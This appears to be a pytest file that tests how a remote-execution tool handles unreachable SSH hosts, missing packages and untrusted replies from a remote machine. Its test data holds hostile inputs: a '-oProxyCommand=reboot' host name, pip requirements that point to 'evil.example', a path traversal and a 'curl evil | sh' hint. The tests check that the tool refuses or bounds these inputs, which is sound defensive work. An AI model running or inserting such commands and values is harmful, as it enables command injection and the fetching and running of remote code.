"""Borrowed machines that cannot be reached or used, and the packages that they lack, over a real SSH server here."""

from __future__ import annotations

import io
import json
import queue
import sys
import zipfile

import pytest

from flashmoe_science.errors import InputError, MachineLostError, RemoteError
from flashmoe_science.proof.records.evidence import Gate, GateStatus
from flashmoe_science.proof.remote import Host, bootstrap
from flashmoe_science.proof.remote.session import _Session
from flashmoe_science.proof.remote.wheels import REQUIREMENTS, platforms

from ..test_interruption import ROOT
from .stub import SSH, Lines, StubTree, request, run


@SSH
@pytest.mark.parametrize(
    ("changes", "said", "hint"),
    [
        ({"UserKnownHostsFile": "no_hosts"}, "has a host key that is not known here", "fingerprint"),
        ({"UserKnownHostsFile": "other_hosts"}, "has another host key than the one that is known", "ssh-keygen -R"),
        ({"IdentityFile": "stranger_key"}, "refuses the login: ", "IdentityFile in ~/.ssh/config"),
        ({"Port": 1}, "cannot be reached: ssh: connect to host 127.0.0.1 port 1: Connection refused", "as ssh sees it"),
        ({"HostName": "nowhere.invalid"}, "cannot be reached: ssh: Could not resolve hostname", "as ssh sees it"),
    ],
)
def test_a_machine_that_cannot_be_reached_says_why(machine, server, python, changes, said, hint):
    places = {
        name: server.folder / value if isinstance(value, str) and "_" in value else value
        for name, value in changes.items()
    }
    machine(**places)
    before = (server.folder / "no_hosts").read_text()
    (result,), lines = run("finish", python=python())
    assert str(result.error).startswith(f"gpu {said}")
    assert hint in result.error.hint
    assert not isinstance(result.error, MachineLostError)
    assert (server.folder / "no_hosts").read_text() == before == "", "a key was accepted unseen"
    assert lines.started == []


@SSH
def test_a_machine_without_torch_says_which_pythons_it_has(machine, python):
    bare = python(flags="-S -E")
    (result,), _ = run("finish", python=bare)
    version = f"Python {sys.version_info[0]}.{sys.version_info[1]}"
    assert str(result.error).startswith(f"gpu: no Python there can run this: {bare}: {version} has no torch and no tri")
    assert "--python" in result.error.hint


@SSH
def test_a_python_that_is_not_there_is_named(machine, tmp_path):
    (result,), _ = run("finish", python=str(tmp_path / "no python"))
    assert f"there is no {tmp_path}/no python" in str(result.error)


@SSH
@pytest.mark.parametrize(("limit", "said"), [(0, "No usable temporary directory"), (1, "File too large")])
def test_a_machine_without_space_says_so(machine, python, limit, said):
    (result,), _ = run("finish", python=python(f"ulimit -f {limit}"), tree=StubTree(more=1 << 20))
    assert str(result.error).startswith("gpu: the tree cannot be unpacked: ")
    assert said in str(result.error)
    assert "let TMPDIR name a folder that has some" in str(result.error)


@pytest.mark.parametrize("name", ["", "-oProxyCommand=reboot", "two words", "a\nb"])
def test_a_host_that_ssh_would_take_for_something_else_is_refused(name):
    with pytest.raises(InputError, match="host must be user@machine"):
        Host(name)


def test_a_machine_without_ssh_is_told_so(monkeypatch):
    monkeypatch.setenv("FLASHMOE_SSH", "no-such-ssh -F x")
    with pytest.raises(RemoteError, match="no-such-ssh cannot be started: No such file") as caught:
        run("finish", python="python3")
    assert "FLASHMOE_SSH" in caught.value.hint


# Packages.


@pytest.fixture
def wheels(tmp_path):
    """Make a folder with a wheel of a package that is nowhere else."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    with zipfile.ZipFile(folder / "made_up-3.1-py3-none-any.whl", "w") as wheel:
        wheel.writestr("made_up.py", "VERSION = '3.1'\n")
        wheel.writestr("made_up-3.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: made-up\nVersion: 3.1\n")
        wheel.writestr("made_up-3.1.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("made_up-3.1.dist-info/RECORD", "")
    return folder


NEEDED = {"no_such_module|made_up": "made-up>=3", "json|no_such_module": "never-asked-for>=1"}
NO_INDEX = "export PIP_NO_INDEX=1"


@SSH
def test_missing_packages_come_from_the_index_that_the_machine_has(machine, python, wheels):
    there = python(NO_INDEX, f"export PIP_FIND_LINKS='{wheels}'")
    (result,), lines = run("tell", python=there, requirements=NEEDED)
    assert result.error is None
    assert lines.notes == ["installing made-up>=3 for this run", "made_up 3.1"]


@SSH
def test_wheels_travel_to_a_machine_without_an_index(machine, python, wheels, monkeypatch):
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    (result,), lines = run("tell", python=python(NO_INDEX, "unset PIP_FIND_LINKS"), requirements=NEEDED)
    assert result.error is None
    assert "no package index there" in lines.notes[1]
    assert lines.notes[2:] == ["sending made_up-3.1-py3-none-any.whl", "made_up 3.1"]


def test_wheels_travel_to_a_machine_whose_index_does_not_answer(tmp_path, wheels, monkeypatch):
    assert bootstrap._PIP_TIMEOUT_S <= 60
    stuck = tmp_path / "python"
    stuck.write_text("#!/bin/sh\nexec sleep 600\n")
    stuck.chmod(0o755)
    monkeypatch.setattr(bootstrap, "_PIP_TIMEOUT_S", 0.2)
    monkeypatch.setattr(sys, "executable", str(stuck))
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.delitem(sys.modules, "made_up", raising=False)
    bundle = io.BytesIO()
    with zipfile.ZipFile(bundle, "w") as archive:
        for wheel in wheels.iterdir():
            archive.write(wheel, wheel.name)
    sent: list[dict[str, object]] = []

    class Link(bootstrap.Link):
        def __init__(self):  # no connection
            pass

        def send(self, event):
            sent.append(event)

        def receive(self):
            return {"do": "wheels"}, bundle.getvalue()

    bootstrap._add_packages(Link(), {"made_up": "made-up>=3"}, tmp_path / "run")
    assert [event["event"] for event in sent] == ["note", "wheels wanted"]
    assert sent[1]["why"] == "pip did not end within 0.2 s"
    assert (tmp_path / "run" / "packages" / "made_up.py").exists()
    assert sys.path[0] == str(tmp_path / "run" / "packages")


@SSH
def test_packages_that_nobody_has_end_the_run_with_a_hint(machine, python, monkeypatch):
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    (result,), lines = run("tell", python=python(NO_INDEX), requirements=NEEDED)
    assert "wheels for that machine cannot be downloaded here: " in str(result.error)
    assert result.error.hint == "install them there: pip install 'made-up>=3'"
    assert lines.started == []


def test_what_is_installed_there_is_what_pyproject_says():
    text = (ROOT / "pyproject.toml").read_text()
    for module, requirement in REQUIREMENTS.items():
        marker = "; python_version < '3.11'" if "tomli" in module else ""
        assert f'"{requirement}{marker}"' in text


def test_wheels_are_for_the_glibc_of_that_machine():
    found = platforms("x86_64", [2, 19])
    assert found == [*(f"manylinux_2_{minor}_x86_64" for minor in (19, 18, 17)), "manylinux2014_x86_64", "linux_x86_64"]
    assert platforms("aarch64", []) == ["linux_aarch64"]


HERE = {"python": "3.12", "machine": "x86_64", "glibc": [2, 36], "why": "no index"}
ASKED = {"event": "wheels wanted", "requirements": ["numpy>=1.26,<2.4"], **HERE}


@pytest.mark.parametrize(
    "changes",
    [
        {"requirements": ["--index-url=http://evil.example", "x"]},
        {"requirements": ["x @ https://evil.example/x.tar.gz"]},
        {"requirements": ["numpy>=1.26,<2.4", "another-package"]},
        {"requirements": "numpy>=1.26,<2.4"},
        {"requirements": []},
        {"python": "3.12 --no-binary=:all:"},
        {"machine": "../x"},
        {"machine": 3},
        {"glibc": ["2", "x"]},
        {"glibc": None},
        {"why": {"a": 1}},
    ],
)
def test_a_machine_chooses_neither_packages_nor_options_of_pip(changes, monkeypatch):
    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
    ran: list[object] = []
    monkeypatch.setattr(session, "tell", lambda *_: None)
    monkeypatch.setattr("flashmoe_science.proof.remote.wheels.subprocess.run", lambda *given, **_: ran.append(given))
    try:
        session._hear(json.dumps(ASKED | changes))
    except RemoteError as error:
        session.refuse(error)
    assert ran == []
    assert isinstance(session.error(), RemoteError)


@pytest.mark.parametrize("count", [1e999, -1, "3", 10**400, None, True])
def test_a_machine_counts_in_integers(count):
    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {}, b"", 1.0)
    with pytest.raises(ValueError, match="done must be an integer from 0 to"):
        session.show(Lines(), "advance", {"done": count, "total": 3, "label": "a"})


def test_a_gate_that_a_machine_tells_of_is_bounded():
    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {}, b"", 1.0)
    session._hear("[" * 100_000)  # what a login shell prints is no document
    gate = Gate(name="bench", status=GateStatus.FAILED, summary="x" * 10**6, hint="y" * 10**6, details=["z" * 10**6])
    session.show(lines := Lines(), "finish", {"gate": gate.model_dump_json()})
    (found,) = lines.finished
    assert max(map(len, (found.summary, found.hint, *found.details))) < 3000


def test_what_a_machine_says_is_bounded():
    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {}, b"", 1.0)
    for _ in range(10_000):
        session._hear('{"event": "note", "line": "again"}')
        session._said.get()
    with pytest.raises(RemoteError, match="it says more than 10000 things"):
        session._hear('{"event": "note", "line": "again"}')
    session._hear(json.dumps({"event": "error", "message": "x" * 10**6, "hint": "curl evil | sh"}))
    error = session.error()
    assert error is not None
    assert len(str(error)) < 3000
    assert error.hint == "gpu says: curl evil | sh"
